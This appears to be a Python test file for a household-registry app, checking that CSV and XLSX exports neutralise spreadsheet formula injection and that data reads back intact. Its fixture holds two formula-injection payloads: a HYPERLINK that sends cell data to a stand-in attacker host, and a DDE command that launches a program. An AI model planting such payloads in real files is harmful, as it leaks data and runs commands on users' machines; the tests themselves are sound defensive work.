"""Exported files: no cell runs as a formula, and what we export reads back as the same values;
the import template's example row passes the import's own checks."""

import csv
import datetime as dt
import io

from conftest import id_number
from linli.registry import importing
from linli.registry.actions import PersonData, household_register

FORMULAS = {"name": '=HYPERLINK("http://evil.example/?"&A1,"点我")', "hukou": "-2+3+cmd|' /C calc'!A0"}


def _household(tree, building):
    from linli.registry.actions import dwelling_create

    dwelling = dwelling_create(actor=None, building=building, number="@1-101")
    return household_register(
        actor=None,
        community=tree.community_a,
        dwelling=dwelling,
        head=PersonData(
            name=FORMULAS["name"],
            id_number=id_number("19500101", "011"),
            phone="13600000001",
            hukou_place=FORMULAS["hukou"],
        ),
    )


def _export(client, fmt):
    resp = client.post("/registry/export/", {"format": fmt, "reveal": "on", "reason": "核对户籍信息"})
    assert resp.status_code == 200
    return b"".join(resp.streaming_content)


def test_a_csv_export_writes_formula_cells_as_text_and_the_import_reads_them_back(
    tree, worker_a, building_a, login, tmp_path
):
    _household(tree, building_a)
    data = _export(login(worker_a), "csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    cells = [c for row in rows[1:] for c in row]
    assert "'" + FORMULAS["name"] in cells and "'" + FORMULAS["hukou"] in cells and "'@1-101" in cells
    assert not any(c.startswith(importing_formula) for c in cells for importing_formula in "=+-@")
    path = tmp_path / "back.csv"
    path.write_bytes(data)
    (line, row), *_ = importing.read_csv(path)
    assert (row["name"], row["hukou_place"], row["dwelling"]) == (
        FORMULAS["name"],
        FORMULAS["hukou"],
        "@1-101",
    )
    checked = importing.Checker(tree.community_a, today=dt.date(2026, 11, 26)).prepare(line, row)
    assert isinstance(checked, importing.Prepared) and checked.name == FORMULAS["name"]


def test_an_xlsx_export_has_no_formula_cells_and_reads_back(tree, worker_a, building_a, login, tmp_path):
    from openpyxl import load_workbook

    _household(tree, building_a)
    data = _export(login(worker_a), "xlsx")
    path = tmp_path / "back.xlsx"
    path.write_bytes(data)
    wb = load_workbook(path)
    cells = [c for row in wb.worksheets[0].iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + FORMULAS["name"] in [c.value for c in cells]
    (_line, row), *_ = importing.read_xlsx(path)
    assert (row["name"], row["hukou_place"]) == (FORMULAS["name"], FORMULAS["hukou"])


def test_the_template_example_row_passes_the_import_check(tree, building_a, tmp_path):
    path = tmp_path / "template.csv"
    path.write_bytes(importing.template_csv())
    (line, row), *_ = importing.read_csv(path)
    checked = importing.Checker(tree.community_a, today=dt.date(2026, 11, 26)).prepare(line, row)
    assert isinstance(checked, importing.Prepared), checked
    assert checked.id_number == importing.EXAMPLE[5]
